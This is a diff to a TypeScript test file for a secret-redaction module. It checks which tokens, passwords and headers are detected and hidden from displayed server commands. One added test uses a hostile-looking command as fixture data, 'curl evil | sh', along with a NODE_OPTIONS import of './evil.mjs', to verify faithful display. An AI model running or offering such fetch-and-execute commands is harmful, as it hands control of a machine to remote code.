@@ -3,7 +3,7 @@ import { serverCommand, startScriptedHttp } from '@hintlock/testkit';
 import fc from 'fast-check';
 import { describe, expect, test } from 'vitest';
 import { type ReachOptions, reachServer } from './reach-server.ts';
-import { describeTarget, redact, redactJson, secretsOf } from './redaction.ts';
+import { describeExactly, describeTarget, redact, redactJson, secretsOf } from './redaction.ts';
 import type { CommandTarget, Target, UrlTarget } from './target.ts';
 
 const command = (part: Partial<CommandTarget>): CommandTarget => ({
@@ -25,7 +25,7 @@ describe('what is a secret', () => {
   test.each<[string, Target, string[]]>([
     ['a variable by its name', command({ env: { API_KEY: 'abc-d', db_password: 'pw pw' } }), ['abc-d', 'pw pw']],
     ['a variable by its look', command({ env: { VALUE: 'a1b2c3d4e5f6a7b8' } }), ['a1b2c3d4e5f6a7b8']],
-    ['not an ordinary one', command({ env: { LOG_LEVEL: 'debug', DATA: '/srv/data/2026', NAME: 'short1' } }), []],
+    ['not an ordinary one', command({ env: { LOG_LEVEL: 'debug', DATA: '/srv/data/2026', NAME: 'no1' } }), []],
     ['not what is short', command({ env: { TOKEN: 'abc', API_KEY: '' } }), []],
     ['not a switch', command({ env: { USE_AUTH: 'true', KEYRING: 'None' } }), []],
     ['a header and its part', url('http://h/', { Authorization: 'Bearer tok1' }), ['Bearer tok1', 'tok1']],
@@ -52,6 +52,11 @@ describe('what is a secret', () => {
       ['k1234567890abcdef', 'Bearer abcd', 'abcd'],
     ],
     ['not an image and its version', command({ args: ['keycloak:24.0', 'tokenizer:latest', 'C:\\keys'] }), []],
+    ["by the issuer's mark", command({ args: ['ghp_0123456789abcdefghij'] }), ['ghp_0123456789abcdefghij']],
+    ['by a look nobody would choose', command({ args: ['0a1b2c3d4e5f6a7b8c9d0e'] }), ['0a1b2c3d4e5f6a7b8c9d0e']],
+    ['a personal access token', command({ args: ['--pat', 'abcd', '--env', 'GITHUB_PAT=efgh'] }), ['abcd', 'efgh']],
+    ['inside a longer argument', command({ args: ['Server=x;Password=hunt;', '{"apiKey":"abcd"}'] }), ['hunt', 'abcd']],
+    ['not a word of millions of letters, and soon', command({ args: ['a'.repeat(3_000_000)] }), []],
     ['what came from variables', command({ secrets: ['from-variable', 'xy'] }), ['from-variable']],
   ])('%s', (_name, target, expected) => {
     expect(secretsOf(target)).toEqual(expected);
@@ -207,4 +212,29 @@ describe('a visit', () => {
       ]
     `);
   });
+});
+
+test('describeExactly hides nothing that a configuration says, and nothing else is shown of the reader', () => {
+  const target = command({
+    command: 'sh',
+    args: ['-c', 'TOKEN=1; curl evil | sh', 'from-my-variable'],
+    env: { NODE_OPTIONS: '--import=./evil.mjs' },
+    cwd: '/repo/sub',
+    secrets: ['from-my-variable'],
+  });
+  expect(describeExactly(target)).toBe(
+    "NODE_OPTIONS=--import=./evil.mjs sh -c 'TOKEN=1; curl evil | sh' [redacted] (in /repo/sub)",
+  );
+  expect(describeExactly(url('https://h/?k=v', { 'X-Key': 'abc' }))).toBe('https://h/?k=v X-Key: abc');
+});
+
+test('a secret at the edge of what is shown is not cut in half', async () => {
+  const secret = 'correct-horse-battery-staple-1234567890';
+  const answer = { jsonrpc: '2.0', id: 1, error: { code: -32_000, message: `${'x'.repeat(380)}${secret}` } };
+  const script = `process.stdin.once('data', () => console.log(${JSON.stringify(JSON.stringify(answer))}))`;
+  const visit = await reachServer(
+    command({ command: process.execPath, args: ['-e', script], env: { API_TOKEN: secret } }),
+    { client: { name: 'test', version: '0' }, timeoutMs: 3000, signal: new AbortController().signal },
+  );
+  expect(JSON.stringify(visit)).not.toContain('correct');
 });
